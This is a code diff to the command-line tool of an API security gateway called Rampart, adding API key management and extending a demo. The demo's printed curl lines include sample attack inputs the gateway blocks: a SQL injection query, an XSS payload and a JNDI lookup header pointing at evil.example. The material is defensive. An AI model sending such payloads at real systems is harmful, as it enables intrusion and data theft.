@@ -17,7 +17,8 @@ Examples:
   rampart demo                                   # gateway + sample API, with curl lines to try
   rampart serve --upstream http://127.0.0.1:9000 # protect one API, no config file
   rampart serve --config examples/quickstart.yaml
-  rampart validate examples/quickstart.yaml      # exit 1 with file:line:column errors";
+  rampart validate examples/quickstart.yaml      # exit 1 with file:line:column errors
+  rampart keys add --file keys.yaml --consumer billing --scope orders:read   # prints the new key once";
 
 #[derive(Parser)]
 #[command(name = "rampart", version, about = "Rampart: an API security gateway", after_help = EXAMPLES)]
@@ -49,6 +50,11 @@ enum Command {
     },
     /// Compile a configuration without serving; print every error as file:line:column.
     Validate { file: PathBuf },
+    /// Manage an API keys file (SHA-256 hashes only; a secret is printed once, by `add`).
+    Keys {
+        #[command(subcommand)]
+        action: KeysAction,
+    },
     /// Start the built-in sample API and the gateway in front of it, and print what to try.
     Demo {
         #[arg(long, default_value = "127.0.0.1:8080")]
@@ -56,6 +62,87 @@ enum Command {
         #[arg(long, default_value = "127.0.0.1:9901")]
         admin: SocketAddr,
     },
+}
+
+#[derive(Subcommand)]
+enum KeysAction {
+    /// Make a new key; prints its secret once (only its hash is stored).
+    Add {
+        #[arg(long)]
+        file: PathBuf,
+        /// The consumer the key identifies (passed upstream, used for limits and logs).
+        #[arg(long)]
+        consumer: String,
+        /// A scope the key grants (repeat for more).
+        #[arg(long = "scope")]
+        scopes: Vec<String>,
+        /// A role the key grants (repeat for more).
+        #[arg(long = "role")]
+        roles: Vec<String>,
+        /// Lifetime (e.g. `90d`) or an RFC 3339 expiry time.
+        #[arg(long)]
+        expires: Option<String>,
+    },
+    /// List keys: id, consumer, grants, expiry, state — never secrets or hashes.
+    List {
+        #[arg(long)]
+        file: PathBuf,
+    },
+    /// Disable a key by id (kept in the file so its later use is logged as revoked).
+    Revoke {
+        #[arg(long)]
+        file: PathBuf,
+        id: String,
+    },
+}
+
+fn parse_expiry(text: &str) -> Result<std::time::SystemTime> {
+    if let Ok(d) = humantime::parse_duration(text) {
+        return Ok(std::time::SystemTime::now() + d);
+    }
+    humantime::parse_rfc3339_weak(text)
+        .with_context(|| format!("--expires {text}: write a duration like 90d or an RFC 3339 time"))
+}
+
+fn keys(action: KeysAction) -> Result<()> {
+    use gateway::stages::identify::api_key;
+    match action {
+        KeysAction::Add { file, consumer, scopes, roles, expires } => {
+            let expires = expires.as_deref().map(parse_expiry).transpose()?;
+            let key = api_key::add(&file, &consumer, scopes, roles, expires)?;
+            println!("added key {} for consumer {} to {}", key.entry.id, consumer, file.display());
+            println!("secret (shown once; only its SHA-256 is stored):\n{}", key.secret);
+        }
+        KeysAction::List { file } => {
+            let f = api_key::read_file(&file)?;
+            println!("{:<16} {:<20} {:<24} {:<16} {:<22} state", "id", "consumer", "scopes", "roles", "expires");
+            let now = std::time::SystemTime::now();
+            for k in &f.keys {
+                let expired =
+                    k.expires.as_deref().and_then(|t| humantime::parse_rfc3339_weak(t).ok()).is_some_and(|t| now >= t);
+                let state = if k.disabled {
+                    "revoked"
+                } else if expired {
+                    "expired"
+                } else {
+                    "active"
+                };
+                println!(
+                    "{:<16} {:<20} {:<24} {:<16} {:<22} {state}",
+                    k.id,
+                    k.consumer,
+                    k.scopes.join(","),
+                    k.roles.join(","),
+                    k.expires.as_deref().unwrap_or("-"),
+                );
+            }
+        }
+        KeysAction::Revoke { file, id } => {
+            api_key::revoke(&file, &id)?;
+            println!("revoked key {id} in {} (reloaded with the configuration)", file.display());
+        }
+    }
+    Ok(())
 }
 
 fn init_logging() {
@@ -81,7 +168,7 @@ fn upstream_config(upstream: &str, listen: SocketAddr, admin: Option<SocketAddr>
         "--upstream {upstream}: write a URL like http://127.0.0.1:9000"
     );
     let mut text = format!(
-        "listen: [{{ addr: {} }}]\nupstreams:\n  app: {{ targets: [{}] }}\nroutes:\n  - {{ id: all, path: \"/*\", methods: [ANY], upstream: app }}\n",
+        "listen: [{{ addr: {} }}]\nupstreams:\n  app: {{ targets: [{}] }}\nroutes:\n  - {{ id: all, path: \"/*\", methods: [ANY], upstream: app, auth: none }}\n",
         quoted(&listen.to_string()),
         quoted(upstream)
     );
@@ -129,7 +216,20 @@ async fn wait_for_signals(handle: &gateway::GatewayHandle) {
 
 async fn demo(listen: SocketAddr, admin: SocketAddr) -> Result<()> {
     let (api, _task) = sample_api::spawn("127.0.0.1:0".parse()?).await.context("cannot start the sample API")?;
+    // A fresh API key for this run: only its hash is written (to a private temp dir); the secret lives in
+    // this process and the printed curl lines.
+    let keys_dir = std::env::temp_dir().join(format!("rampart-demo-{}", std::process::id()));
+    std::fs::create_dir_all(&keys_dir).context("cannot create the demo's keys folder")?;
+    let keys_file = keys_dir.join("keys.yaml");
+    let _ = std::fs::remove_file(&keys_file);
+    let key =
+        gateway::stages::identify::api_key::add(&keys_file, "demo-client", vec!["orders:read".into()], vec![], None)?;
+    let reader =
+        gateway::stages::identify::api_key::add(&keys_file, "catalog-bot", vec!["products:read".into()], vec![], None)?;
+    let secret = key.secret;
+    let wrong_scope = reader.secret;
     let text = include_str!("demo.yaml")
+        .replace("@KEYS@", &keys_file.display().to_string().replace('\\', "/"))
         .replace("@LISTEN@", &listen.to_string())
         .replace("@ADMIN@", &admin.to_string())
         .replace("@UPSTREAM@", &format!("http://{api}"));
@@ -141,8 +241,13 @@ async fn demo(listen: SocketAddr, admin: SocketAddr) -> Result<()> {
 Legitimate calls pass:\n  \
 curl -i http://{g}/users/2\n  \
 curl -i http://{g}/products\n  \
-curl -i -X POST http://{g}/users -H 'content-type: application/json' -d '{{\"name\":\"Grace\"}}'\n\n\
-Attacks and mistakes are stopped (problem+json with a stable code):\n  \
+curl -i -X POST http://{g}/users -H 'content-type: application/json' -d '{{\"name\":\"Grace\"}}'\n  \
+curl -i http://{g}/orders -H 'X-API-Key: {secret}'   # API key made at startup (consumer demo-client)\n\n\
+Attacks and mistakes are stopped (problem+json with a stable code; 401s say only auth.failed, the log says why):\n  \
+curl -i http://{g}/orders                                   # auth.missing: orders need an API key\n  \
+curl -i http://{g}/orders -H 'X-API-Key: rk_made_up_key'    # auth.key.invalid\n  \
+curl -i http://{g}/orders -H 'X-API-Key: {wrong_scope}'   # authz.scope: this key lacks orders:read\n  \
+curl -i http://{g}/orders/1 -H 'X-API-Key: {secret}' -H 'X-Consumer-Id: admin'   # forged identity header dropped; upstream sees X-Rampart-Consumer\n  \
 curl -i \"http://{g}/products?q=1%27%20UNION%20SELECT%20password%20FROM%20users--\"   # inspect.sqli\n  \
 curl -i -X POST http://{g}/users -H 'content-type: application/json' -d '{{\"name\":\"<img src=x onerror=alert(1)>\"}}'   # inspect.xss\n  \
 curl -i http://{g}/users/1 -H 'User-Agent: ${{jndi:ldap://evil.example/x}}'   # inspect.jndi\n  \
@@ -158,11 +263,16 @@ curl http://{admin}/readyz\n\n\
 Access log on stdout, security events on stderr. Ctrl-C stops.\n"
     );
     wait_for_signals(&handle).await;
+    let _ = std::fs::remove_dir_all(&keys_dir);
     Ok(())
 }
 
 fn main() -> Result<()> {
     let cli = Cli::parse();
+    let cli = match cli.command {
+        Command::Keys { action } => return keys(action),
+        other => Cli { command: other },
+    };
     if let Command::Validate { file } = &cli.command {
         let metrics = gateway::metrics::Metrics::new();
         return match gateway::config::load_file(file, &metrics) {
@@ -193,7 +303,7 @@ fn main() -> Result<()> {
             }
             Command::Serve { .. } => anyhow::bail!("give --config FILE or --upstream URL"),
             Command::Demo { listen, admin } => demo(listen, admin).await,
-            Command::Validate { .. } => Ok(()),
+            Command::Validate { .. } | Command::Keys { .. } => Ok(()),
         }
     })
 }
